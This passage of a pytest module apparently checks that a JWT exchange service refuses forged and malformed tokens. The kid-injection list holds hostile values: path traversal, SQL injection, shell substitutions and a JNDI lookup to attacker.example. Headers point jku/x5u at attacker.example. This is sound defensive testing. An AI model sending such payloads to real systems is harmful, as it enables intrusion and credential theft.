"""JWT attacks (docs/verification.md#verifying-an-upstream-token; RFC 8725 and the history of JWT library
CVEs), sent through the three real endpoints: raw ``/t/T/exchange``, RFC 8693 ``/t/T/token`` and the JSON
API. The large tables of variations (alg none, non-object JSON, claim timing, iss, aud, crit) run every
case against the pure verifier and a representative share through each endpoint (``routes``).

Every refusal must carry the right status and error code (RFC 8693 maps token and policy
refusals to 400 ``invalid_request``), no token anywhere in the body, and leave no audit row
that says "allowed". ``test_forged_token_control_is_accepted`` shows the forging helpers make
tokens the service does accept, so each refusal below is due to the attack alone.
"""

from __future__ import annotations

import functools
import json
import time

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from exchange.models import ExchangeRecord, Issuer, Rule
from tests.conftest import Upstream, make_tenant

from . import jose
from .endpoints import ENDPOINTS, VERIFIER, assert_nothing_allowed, assert_refused, routes, send

pytestmark = pytest.mark.usefixtures("exchangeable")

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def rsa_header(upstream: Upstream, **extra) -> dict:
    return {"alg": "RS256", "kid": upstream.rsa_kid, "typ": "JWT", **extra}


def ec_header(upstream: Upstream, **extra) -> dict:
    return {"alg": "ES256", "kid": upstream.ec_kid, "typ": "JWT", **extra}


def refused(endpoint, client, token, status, code, *, upstream=None, **kwargs) -> dict:
    body = assert_refused(endpoint, send(endpoint, client, token, upstream=upstream, **kwargs), status, code)
    if endpoint != VERIFIER:
        assert_nothing_allowed()
    return body


@functools.cache
def _attacker_rsa():
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


# --- control ------------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("alg", ["RS256", "ES256"])
def test_forged_token_control_is_accepted(endpoint, alg, client, upstream):
    header = rsa_header(upstream) if alg == "RS256" else ec_header(upstream)
    token = jose.signed(header, upstream.claims(), rsa_key=upstream.rsa_key, ec_key=upstream.ec_key)
    response = send(endpoint, client, token)
    assert response.status_code == 200, response.content
    assert ExchangeRecord.objects.get().decision == "allowed"


# --- alg none, HMAC confusion, allowlist ------------------------------------------------------


@pytest.mark.parametrize(
    "endpoint, case",
    routes(
        (alg, signature) for alg in ["none", "None", "NONE", "nOnE", "none ", ""] for signature in ["", "c2lnbmF0dXJl"]
    ),
)
def test_alg_none_in_any_case_is_refused(endpoint, case, client, upstream):
    alg, signature = case
    token = jose.compact({"alg": alg, "typ": "JWT"}, upstream.claims(), signature)
    # An empty signature is not even a well-formed JWS here (400); with one, the alg is refused (401).
    status, code = (400, "invalid_request") if not signature else (401, "invalid_token")
    refused(endpoint, client, token, status, code, upstream=upstream)
    # The same with the issuer's kid, as if the key were named.
    token = jose.compact({"alg": alg, "kid": upstream.rsa_kid}, upstream.claims(), signature)
    refused(endpoint, client, token, status, code, upstream=upstream)


def _public_key_forms(upstream: Upstream, tenant_jwk: dict) -> dict[str, bytes]:
    rsa_pub = upstream.rsa_key.public_key()
    ec_pub = upstream.ec_key.public_key()
    return {
        "issuer RSA PEM (SPKI)": rsa_pub.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "issuer RSA PEM (PKCS#1)": rsa_pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
        "issuer RSA DER": rsa_pub.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "issuer RSA JWK": json.dumps(upstream.jwks["keys"][0]).encode(),
        "issuer RSA JWK (compact, sorted)": json.dumps(
            upstream.jwks["keys"][0], separators=(",", ":"), sort_keys=True
        ).encode(),
        "issuer RSA n": upstream.jwks["keys"][0]["n"].encode(),
        "issuer EC PEM": ec_pub.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "issuer EC JWK": json.dumps(upstream.jwks["keys"][1]).encode(),
        "issuer JWKS": json.dumps(upstream.jwks).encode(),
        "tenant's own JWK": json.dumps(tenant_jwk).encode(),
        "tenant's own JWKS": json.dumps({"keys": [tenant_jwk]}).encode(),
    }


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_hmac_signed_with_public_key_is_refused(endpoint, alg, client, upstream, signing_key):
    import hashlib
    import hmac

    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    for form, secret in _public_key_forms(upstream, signing_key.public_jwk).items():
        for kid in (upstream.rsa_kid, upstream.ec_kid, signing_key.kid, None):
            header = {"alg": alg, "typ": "JWT", **({"kid": kid} if kid else {})}
            data = jose.signing_input(header, upstream.claims())
            token = f"{data}.{jose.b64u(hmac.new(secret, data.encode(), digest).digest())}"
            response = send(endpoint, client, token)
            assert_refused(endpoint, response, 401, "invalid_token", context=form)
    assert_nothing_allowed()


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("alg", ["RS384", "RS512", "PS256", "PS384", "PS512"])
def test_algorithm_outside_issuer_allowlist_is_refused(endpoint, alg, client, upstream):
    # A valid signature by the issuer's own RSA key, with an alg the issuer does not allow
    # (its allowlist is the default RS256, ES256).
    header = {"alg": alg, "kid": upstream.rsa_kid}
    token = jose.signed(header, upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_allowlisted_algorithm_the_key_does_not_declare_is_refused(endpoint, client, issuer, upstream):
    # The issuer allows PS256, but its RSA JWK says "alg": "RS256": the key may not be used with PS256.
    issuer.algorithms = ["RS256", "PS256", "ES256"]
    issuer.save()
    token = jose.signed({"alg": "PS256", "kid": upstream.rsa_kid}, upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_algorithm_not_matching_key_type_is_refused(endpoint, client, upstream):
    claims = upstream.claims()
    cases = [
        # ES256 over the RSA key's kid (signed with the EC key, which that kid does not name).
        jose.signed({"alg": "ES256", "kid": upstream.rsa_kid}, claims, ec_key=upstream.ec_key),
        # RS256 over the EC key's kid.
        jose.signed({"alg": "RS256", "kid": upstream.ec_kid}, claims, rsa_key=upstream.rsa_key),
        # EdDSA is not in the issuer's allowlist and fits neither key.
        jose.compact({"alg": "EdDSA", "kid": upstream.ec_kid}, claims, b"\x01" * 64),
        # ES384/ES512 against a P-256 key.
        jose.compact({"alg": "ES384", "kid": upstream.ec_kid}, claims, b"\x01" * 96),
        jose.compact({"alg": "ES512", "kid": upstream.ec_kid}, claims, b"\x01" * 132),
    ]
    for token in cases:
        refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("alg", [["RS256"], "RS256 ", "rs256", None, 256, {"alg": "RS256"}])
def test_malformed_alg_header_is_refused(endpoint, alg, client, upstream):
    header = {"alg": alg, "kid": upstream.rsa_kid}
    data = jose.signing_input(header, upstream.claims())
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, token, 401, "invalid_token")


# --- the token naming its own key -------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("param", ["jwk", "jku", "x5u", "x5c"])
def test_embedded_key_headers_are_refused(endpoint, param, client, upstream):
    attacker = _attacker_rsa()
    from jwt.algorithms import RSAAlgorithm

    attacker_jwk = RSAAlgorithm.to_jwk(attacker.public_key(), as_dict=True)
    attacker_der = attacker.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    value = {
        "jwk": {**attacker_jwk, "kid": upstream.rsa_kid},
        "jku": "https://attacker.example/jwks.json",
        "x5u": "https://attacker.example/cert.pem",
        "x5c": [jose.b64u(attacker_der)],
    }[param]
    claims = upstream.claims()
    # Signed by the attacker's key, with and without the issuer's kid.
    for header in ({"alg": "RS256", param: value, "kid": upstream.rsa_kid}, {"alg": "RS256", param: value}):
        refused(endpoint, client, jose.signed(header, claims, rsa_key=attacker), 401, "invalid_token")
    # Even a valid signature by the issuer's key does not make such a header acceptable.
    header = {"alg": "RS256", "kid": upstream.rsa_kid, param: value}
    refused(endpoint, client, jose.signed(header, claims, rsa_key=upstream.rsa_key), 401, "invalid_token")


KID_INJECTIONS = [
    "../../../../../../dev/null",
    "/dev/null",
    "../../keys/upstream-rsa-1",
    "upstream-rsa-1/../upstream-ec-1",
    "' OR '1'='1",
    "upstream-rsa-1' --",
    "x' UNION SELECT 'secret' --",
    "https://attacker.example/jwks.json",
    "file:///etc/passwd",
    "| cat /etc/passwd",
    "$(id)",
    "`id`",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "upstream-rsa-1\u0000",
    "\u0000",
    "upstream-rsa-1 ",
    "UPSTREAM-RSA-1",
    "",
    "*",
    "%",
    "k" * 4000,
]


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_kid_injection_is_refused(endpoint, client, upstream):
    attacker = _attacker_rsa()
    claims = upstream.claims()
    for kid in KID_INJECTIONS:
        # Signed by the attacker (the injection would have to pick the attacker's key) ...
        refused(
            endpoint, client, jose.signed({"alg": "RS256", "kid": kid}, claims, rsa_key=attacker), 401, "invalid_token"
        )
        # ... and by the real key: a kid is an exact lookup, never a pattern or a path.
        refused(
            endpoint,
            client,
            jose.signed({"alg": "RS256", "kid": kid}, claims, rsa_key=upstream.rsa_key),
            401,
            "invalid_token",
        )


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("kid", [123, None, True, ["upstream-rsa-1"], {"kid": "upstream-rsa-1"}])
def test_kid_of_wrong_type_is_refused(endpoint, kid, client, upstream):
    token = jose.signed({"alg": "RS256", "kid": kid}, upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_unknown_kid_is_refused(endpoint, client, upstream):
    token = jose.signed({"alg": "RS256", "kid": "rotated-away"}, upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_ambiguous_kid_is_refused(endpoint, client, issuer, upstream):
    # Two keys under one kid (a careless upstream, or an attacker who got one key into the set):
    # docs/verification.md#key-selection wants a kid to match exactly one key, so neither is tried.
    jwks = upstream.jwks
    stranger = Upstream(rsa_key=_attacker_rsa(), rsa_kid=upstream.rsa_kid).jwks["keys"][0]
    issuer.static_jwks = {"keys": [*jwks["keys"], stranger]}
    issuer.save()
    token = jose.signed(rsa_header(upstream), upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_missing_kid_with_several_fitting_keys_is_refused(endpoint, client, issuer, upstream):
    second = Upstream(rsa_key=_attacker_rsa(), rsa_kid="second-rsa").jwks["keys"][0]
    issuer.static_jwks = {"keys": [*upstream.jwks["keys"], second]}
    issuer.save()
    token = jose.signed({"alg": "RS256"}, upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_missing_kid_with_exactly_one_fitting_key_is_accepted(endpoint, client, upstream):
    token = jose.signed({"alg": "RS256"}, upstream.claims(), rsa_key=upstream.rsa_key)
    assert send(endpoint, client, token).status_code == 200


# --- signatures -------------------------------------------------------------------------------


def _rs(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_ecdsa_psychic_signature_is_refused(endpoint, client, upstream):
    # CVE-2022-21449: r = s = 0 verified anything in Java 15-18. Also r or s zero alone, and
    # r = s = n (≡ 0 mod n), which a verifier that reduces first would treat the same way.
    claims = upstream.claims()
    for signature in (b"\x00" * 64, _rs(0, 1), _rs(1, 0), _rs(P256_ORDER, P256_ORDER), b"\xff" * 64):
        refused(endpoint, client, jose.compact(ec_header(upstream), claims, signature), 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_ecdsa_der_encoded_signature_is_refused(endpoint, client, upstream):
    # RFC 7518 §3.4: an ES256 signature is R || S; a (valid!) DER signature is not accepted.
    header, claims = ec_header(upstream), upstream.claims()
    data = jose.signing_input(header, claims)
    refused(endpoint, client, f"{data}.{jose.b64u(jose.es256_der(upstream.ec_key, data))}", 401, "invalid_token")
    # Nor R || S with a leading zero byte dropped or added.
    rs = jose.es256(upstream.ec_key, data)
    refused(endpoint, client, data + "." + jose.b64u(b"\x00" + rs), 401, "invalid_token")
    refused(endpoint, client, f"{data}.{jose.b64u(rs[1:])}", 401, "invalid_token")


def _flip(segment: str, index: int = 0) -> str:
    ch = segment[index]
    return segment[:index] + ("B" if ch != "B" else "C") + segment[index + 1 :]


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("alg", ["RS256", "ES256"])
def test_truncated_or_tampered_token_is_refused(endpoint, alg, client, upstream):
    header = rsa_header(upstream) if alg == "RS256" else ec_header(upstream)
    claims = upstream.claims()
    token = jose.signed(header, claims, rsa_key=upstream.rsa_key, ec_key=upstream.ec_key)
    h, p, s = token.split(".")
    other = jose.signed(header, upstream.claims(), rsa_key=upstream.rsa_key, ec_key=upstream.ec_key).split(".")[2]
    evil_claims = jose.segment({**claims, "repository_owner": "evil-org", "repository": "evil-org/x"})
    sig = jose.unb64u(s)
    cases_401 = {
        "signature cut by one byte": f"{h}.{p}.{jose.b64u(sig[:-1])}",
        "signature cut in half": f"{h}.{p}.{jose.b64u(sig[: len(sig) // 2])}",
        "signature with a zero byte prepended": f"{h}.{p}.{jose.b64u(b'0' + sig)}",
        "signature with a byte flipped": f"{h}.{p}.{_flip(s)}",
        "signature with bytes appended": f"{h}.{p}.{s}AAAA",
        "signature of another token": f"{h}.{p}.{other}",
        "payload tampered": f"{h}.{evil_claims}.{s}",
        "payload with a byte flipped": f"{h}.{_flip(p, 10)}.{s}" if _flip(p, 10) != p else f"{h}.{p}x.{s}",
        "header tampered": f"{jose.segment({**header, 'typ': 'at+jwt'})}.{p}.{s}",
    }
    cases_400 = {
        "signature empty": f"{h}.{p}.",
        "signature cut by 1 character (not base64url)": f"{h}.{p}.{s[:-1]}"
        if len(s[:-1]) % 4 == 1
        else f"{h}.{p}.{s}A",
        "signature missing": f"{h}.{p}",
        "payload missing": f"{h}..{s}",
        "header missing": f".{p}.{s}",
        "payload only": p,
    }
    for name, bad in cases_401.items():
        response = send(endpoint, client, bad)
        # A flipped byte in the payload may break its JSON (400) rather than the signature (401).
        if name == "payload with a byte flipped" and response.status_code in (400,):
            assert_refused(endpoint, response, 400, "invalid_request")
            continue
        assert_refused(endpoint, response, 401, "invalid_token", context=name)
    for name, bad in cases_400.items():
        assert_refused(endpoint, send(endpoint, client, bad), 400, "invalid_request", context=name)
    assert_nothing_allowed()


# --- headers this service does not understand -------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize(
    "extra",
    [
        {"crit": ["exp"]},
        {"crit": ["https://example.com/unknown"], "https://example.com/unknown": True},
        {"crit": ["b64"], "b64": False},
        {"crit": ["b64"], "b64": True},
        {"b64": False},
        {"crit": []},
        {"crit": "b64"},
        {"crit": None},
    ],
    ids=[
        "crit-exp",
        "crit-unknown",
        "crit-b64-false",
        "crit-b64-true",
        "b64-false",
        "crit-empty",
        "crit-string",
        "crit-null",
    ],
)
def test_crit_and_b64_headers_are_refused(endpoint, extra, client, upstream):
    # Validly signed by the issuer: the refusal is about the header alone (RFC 7515 §4.1.11, RFC 7797).
    token = jose.signed(rsa_header(upstream, **extra), upstream.claims(), rsa_key=upstream.rsa_key)
    refused(endpoint, client, token, 401, "invalid_token")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_unencoded_payload_b64_false_is_refused(endpoint, client, upstream):
    # RFC 7797: the payload travels as is and the signature covers it raw.
    header = rsa_header(upstream, crit=["b64"], b64=False)
    payload = json.dumps(upstream.claims(), separators=(",", ":"))
    data = f"{jose.segment(header)}.{payload}"
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, token, 400, "invalid_request")  # the raw payload is not base64url
    detached = f"{jose.segment(header)}..{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, detached, 400, "invalid_request")


# --- other serializations -----------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_nested_encrypted_or_json_serialized_token_is_refused(endpoint, client, upstream):
    claims = upstream.claims()
    inner = jose.signed(rsa_header(upstream), claims, rsa_key=upstream.rsa_key)
    jwe_header = jose.segment({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": upstream.rsa_kid, "cty": "JWT"})
    h, p, s = inner.split(".")
    cases_400 = {
        "JWE, five parts": (
            f"{jwe_header}.{jose.b64u(b'k' * 256)}.{jose.b64u(b'i' * 12)}."
            f"{jose.b64u(inner.encode())}.{jose.b64u(b't' * 16)}"
        ),
        "JWE with empty key part": f"{jwe_header}..{jose.b64u(b'i' * 12)}.{jose.b64u(b'c')}.{jose.b64u(b't' * 16)}",
        "four parts": f"{inner}.{s}",
        "nested JWS (payload is a JWT, cty JWT)": jose.signed(
            rsa_header(upstream, cty="JWT"), inner, rsa_key=upstream.rsa_key
        ),
        "JSON serialization (general)": json.dumps({"payload": p, "signatures": [{"protected": h, "signature": s}]}),
        "JSON serialization (flattened)": json.dumps({"payload": p, "protected": h, "signature": s}),
        "two tokens glued": f"{inner}{inner}",
        "two tokens, comma": f"{inner},{inner}",
    }
    for name, token in cases_400.items():
        assert_refused(endpoint, send(endpoint, client, token), 400, "invalid_request", context=name)
    assert_nothing_allowed()


def test_raw_endpoint_refuses_jose_json_content_types(client, upstream):
    token = jose.signed(rsa_header(upstream), upstream.claims(), rsa_key=upstream.rsa_key)
    h, p, s = token.split(".")
    general = json.dumps({"payload": p, "signatures": [{"protected": h, "signature": s}]})
    from .endpoints import raw

    for content_type in ("application/jose+json", "application/json", "application/jose", "text/plain"):
        assert_refused("raw", raw(client, general, content_type=content_type), 400, "invalid_request")
    assert_nothing_allowed()


# --- encoding ---------------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_malformed_base64url_is_refused(endpoint, client, upstream):
    token = jose.signed(rsa_header(upstream), upstream.claims(), rsa_key=upstream.rsa_key)
    h, p, s = token.split(".")

    def std(segment: str) -> str:
        return segment.replace("-", "+").replace("_", "/")

    def pad(segment: str) -> str:
        return segment + "=" * (-len(segment) % 4 or 4)

    cases = {
        "padded header": f"{pad(h)}.{p}.{s}",
        "padded payload": f"{h}.{pad(p)}.{s}",
        "padded signature": f"{h}.{p}.{pad(s)}",
        "standard alphabet '+'/'/'": f"{h}.{p}.{std(s) if std(s) != s else s[:-1] + '+'}",
        "a '+' in the payload": f"{h}.{p[:5]}+{p[6:]}.{s}",
        "a '/' in the header": f"{h[:5]}/{h[6:]}.{p}.{s}",
        "space inside": f"{h}.{p[:10]} {p[10:]}.{s}",
        "newline inside": f"{h}.{p}.{s[:20]}\n{s[20:]}",
        "tab inside": f"{h}\t.{p}.{s}",
        "CRLF at the end": f"{token}\r\n",
        "newline at the end": f"{token}\n",
        "leading space": f" {token}",
        "trailing space": f"{token} ",
        # RFC 4648 §3.5: the unused bits of the last character must be zero (342 % 4 == 2).
        "non-canonical last character": f"{h}.{p}.{s[:-1]}B",
        "length 1 mod 4": f"{h}.{p}.{s}{'A' * ((1 - len(s)) % 4)}",
        "percent-encoded dot": f"{h}%2E{p}%2E{s}",
        "non-ASCII character": f"{h}.{p}\u00e9.{s}",
        "full-width dot": f"{h}\uff0e{p}\uff0e{s}",
        "NUL byte": f"{h}.{p}.{s}\x00",
    }
    for name, bad in cases.items():
        if bad == token:
            continue
        assert_refused(endpoint, send(endpoint, client, bad), 400, "invalid_request", context=name)
    assert_nothing_allowed()


_NOT_JSON_OBJECTS = [
    b"[]",
    b'["alg", "RS256"]',
    b'"RS256"',
    b"123",
    b"null",
    b"true",
    b"",
    b"{",
    b'{"alg": "RS256",}',
    b"{'alg': 'RS256'}",
    b'{"exp": NaN}',
    b'{"exp": Infinity}',
    b'{"exp": -Infinity}',
    b"\xef\xbb\xbf{}",  # a UTF-8 BOM
    '{"a": 1}'.encode("utf-16"),
    '{"a": 1}'.encode("utf-32-le"),
    b'{"a": "\xff\xfe"}',  # not UTF-8
    b'{"a": "\\ud800"}',  # a lone surrogate escape
    b'{"a": 1} {"b": 2}',
    b'{"a": 1}\x00',
    b'{"a": ' + b"9" * 5000 + b"}",  # over Python's int digit limit
]


@pytest.mark.parametrize(
    "endpoint, case", routes((where, raw) for raw in _NOT_JSON_OBJECTS for where in ["header", "payload"])
)
def test_header_or_payload_not_a_json_object_is_refused(endpoint, case, client, upstream):
    where, raw_json = case
    header = jose.segment(rsa_header(upstream))
    payload = jose.segment(upstream.claims())
    if where == "header":
        header = jose.b64u(raw_json)
    else:
        payload = jose.b64u(raw_json)
    data = f"{header}.{payload}"
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, token, 400, "invalid_request", upstream=upstream)


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_duplicate_json_members_are_refused(endpoint, client, upstream):
    claims = upstream.claims()
    body = json.dumps(claims)[1:-1]
    header = json.dumps(rsa_header(upstream))[1:-1]
    cases = {
        # One parser reads the first "alg", another the last (RFC 8725 §3.7 / CVE-style confusion).
        "alg twice in the header": (f'{{"alg":"none",{header}}}', json.dumps(claims)),
        "kid twice in the header": (f'{{{header},"kid":"{upstream.ec_kid}"}}', json.dumps(claims)),
        "iss twice": (json.dumps(rsa_header(upstream)), f'{{"iss":"https://evil.example",{body}}}'),
        "sub twice, evil last": (json.dumps(rsa_header(upstream)), f'{{{body},"sub":"repo:evil/x"}}'),
        "repository_owner twice": (json.dumps(rsa_header(upstream)), f'{{{body},"repository_owner":"evil-org"}}'),
        "nested duplicate": (json.dumps(rsa_header(upstream)), f'{{{body},"ctx":{{"a":1,"a":2}}}}'),
        "duplicate through an escape": (json.dumps(rsa_header(upstream)), f'{{{body},"\\u0073ub":"repo:evil/x"}}'),
    }
    for name, (h, p) in cases.items():
        data = f"{jose.b64u(h.encode())}.{jose.b64u(p.encode())}"
        token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
        assert_refused(endpoint, send(endpoint, client, token), 400, "invalid_request", context=name)
    assert_nothing_allowed()


# --- size and shape ---------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_oversized_token_is_413(endpoint, client, upstream):
    # Validly signed, one byte over 16 KiB; and far over it (the body is refused before it is read).
    claims = upstream.claims()
    base = len(jose.signed(rsa_header(upstream), {**claims, "pad": ""}, rsa_key=upstream.rsa_key))
    pad = "x" * ((16 * 1024 + 1 - base) * 3 // 4 + 4)
    token = jose.signed(rsa_header(upstream), {**claims, "pad": pad}, rsa_key=upstream.rsa_key)
    assert 16 * 1024 < len(token) < 16 * 1024 + 64
    refused(endpoint, client, token, 413, "invalid_request")
    refused(endpoint, client, "A" * (1024 * 1024), 413, "invalid_request")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_token_of_thousands_of_dots_is_refused(endpoint, client):
    refused(endpoint, client, "." * 2, 400, "invalid_request")
    refused(endpoint, client, "." * 10_000, 400, "invalid_request")
    refused(endpoint, client, "a." * 8000, 400, "invalid_request")
    refused(endpoint, client, "." * 17_000, 413, "invalid_request")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("where", ["header", "payload"])
@pytest.mark.parametrize("depth", [100_000 // 40, 5_000])
def test_deeply_nested_json_is_refused(endpoint, where, depth, client, upstream):
    # Deeper than the JSON decoder's recursion limit: refused as malformed, never a 500.
    nested = "[" * depth + "]" * depth if where == "header" else '{"a":' * depth + "1" + "}" * depth
    header = rsa_header(upstream)
    claims = upstream.claims()
    h = jose.b64u(f'{json.dumps(header)[:-1]},"x":{nested}}}'.encode()) if where == "header" else jose.segment(header)
    p = jose.b64u(f'{json.dumps(claims)[:-1]},"x":{nested}}}'.encode()) if where == "payload" else jose.segment(claims)
    data = f"{h}.{p}"
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    if len(token) > 16 * 1024:
        refused(endpoint, client, token, 413, "invalid_request")
    else:
        assert_refused(endpoint, send(endpoint, client, token), 400, "invalid_request")


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_nested_claims_within_the_decoder_limit_do_not_break_rules(endpoint, client, upstream):
    # Validly signed claims nested as deep as the JSON decoder allows (strict_json.MAX_DEPTH,
    # 64 with the claim set itself) reach the rule engine; the exchange must still answer
    # (here: granted, the rule does not look at them). One level more is a malformed token.
    for depth in (30, 63):
        nested = json.loads("[" * depth + "]" * depth)
        token = jose.signed(rsa_header(upstream), upstream.claims(deep=nested), rsa_key=upstream.rsa_key)
        response = send(endpoint, client, token)
        assert response.status_code in (200, 403), response.content
    for depth in (64, 900):
        nested = json.loads("[" * depth + "]" * depth)
        token = jose.signed(rsa_header(upstream), upstream.claims(deep=nested), rsa_key=upstream.rsa_key)
        assert_refused(endpoint, send(endpoint, client, token), 400, "invalid_request")


# --- claims ----------------------------------------------------------------------------------

NOW = "now"


def _timing_cases(now: int) -> dict[str, dict]:
    return {
        "exp missing": {"exp": None},
        "exp in the past": {"iat": now - 600, "nbf": now - 600, "exp": now - 300},
        "exp just past the leeway": {"iat": now - 600, "nbf": now - 600, "exp": now - 61},
        "exp zero": {"iat": None, "nbf": None, "exp": 0},
        "exp negative": {"iat": None, "nbf": None, "exp": -1},
        "exp as string": {"exp": str(now + 300)},
        "exp as bool": {"exp": True},
        "exp as list": {"exp": [now + 300]},
        "exp as object": {"exp": {"$date": now + 300}},
        "exp null": {"exp": "__null__"},
        "exp infinite (1e400)": {"exp": "__inf__"},
        "exp huge integer": {"exp": 10**40},
        "exp far future": {"exp": now + 10 * 365 * 86400},
        "nbf in the future": {"nbf": now + 120},
        "nbf as string": {"nbf": str(now)},
        "nbf null": {"nbf": "__null__"},
        "iat in the future": {"iat": now + 120, "nbf": None},
        "iat as string": {"iat": str(now)},
        "iat as bool": {"iat": False},
        "iat far in the future with nbf backdated": {"iat": now + 3600, "nbf": now - 600, "exp": now + 3900},
        "iat NaN-like huge float": {"iat": 1e308},
    }


def _claims_with(upstream: Upstream, changes: dict) -> str:
    """JSON text of the claims with ``changes`` (None deletes; markers for null and 1e400)."""
    claims = upstream.claims()
    for name, value in changes.items():
        if value is None:
            claims.pop(name, None)
        else:
            claims[name] = value
    text = json.dumps(claims)
    return text.replace('"__null__"', "null").replace('"__inf__"', "1e400")


@pytest.mark.parametrize("endpoint, case", routes(_timing_cases(0)))
def test_claim_timing_variations_are_refused(endpoint, case, client, upstream):
    now = int(time.time())
    payload = _claims_with(upstream, _timing_cases(now)[case])
    header = jose.segment(rsa_header(upstream))
    data = f"{header}.{jose.b64u(payload.encode())}"
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, token, 401, "invalid_token", upstream=upstream)


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_claim_timing_within_the_leeway_is_accepted(endpoint, client, upstream):
    now = int(time.time())
    for changes in (
        {"iat": now - 600, "nbf": now - 600, "exp": now - 30},  # expired 30 s ago, leeway 60 s
        {"nbf": now + 30},
        {"iat": now + 30, "nbf": None},
        {"iat": None, "nbf": None},
        {"exp": float(now + 300)},  # a JSON number with a fraction is a NumericDate too
    ):
        token = jose.signed(rsa_header(upstream), json.loads(_claims_with(upstream, changes)), rsa_key=upstream.rsa_key)
        assert send(endpoint, client, token).status_code == 200, changes


def _iss_cases(issuer: str) -> dict[str, object]:
    return {
        "missing": None,
        "null": "__null__",
        "empty": "",
        "number": 123,
        "array holding the issuer": [issuer],
        "object": {"iss": issuer},
        "trailing slash": issuer + "/",
        "upper case": issuer.upper(),
        "upper-case host only": issuer.replace("ci.upstream", "CI.UPSTREAM"),
        "leading space": " " + issuer,
        "trailing space": issuer + " ",
        "trailing newline": issuer + "\n",
        "trailing NUL": issuer + "\u0000",
        "http instead of https": issuer.replace("https://", "http://"),
        "default port spelled out": issuer.replace(".test", ".test:443"),
        "path appended": issuer + "/../",
        "homoglyph": issuer.replace("c", "\u0441", 1),  # Cyrillic es
        "another issuer": "https://token.actions.githubusercontent.com",
    }


@pytest.mark.parametrize(
    "endpoint, case, pinned",
    # The issuer chosen by the token's iss, or pinned with issuerId (RFC 8693 has no such parameter).
    [
        (endpoint, case, pinned)
        for endpoint, case in routes(_iss_cases("https://ci.upstream.test"))
        for pinned in (False, True)
        if not (pinned and endpoint == "rfc8693")
    ],
)
def test_issuer_variations_are_refused(endpoint, case, pinned, client, upstream):
    payload = _claims_with(upstream, {"iss": _iss_cases(upstream.issuer)[case]})
    header = jose.segment(rsa_header(upstream))
    data = f"{header}.{jose.b64u(payload.encode())}"
    token = f"{data}.{jose.b64u(jose.rs256(upstream.rsa_key, data))}"
    refused(endpoint, client, token, 401, "invalid_token", upstream=upstream, **({"issuer_id": "ci"} if pinned else {}))


def _aud_cases(aud: str) -> dict[str, object]:
    return {
        "missing": None,
        "null": "__null__",
        "empty string": "",
        "empty array": [],
        "number": 1,
        "object": {"aud": aud},
        "array of others": ["someone-else", "another"],
        "array with a non-string": [aud, 5],
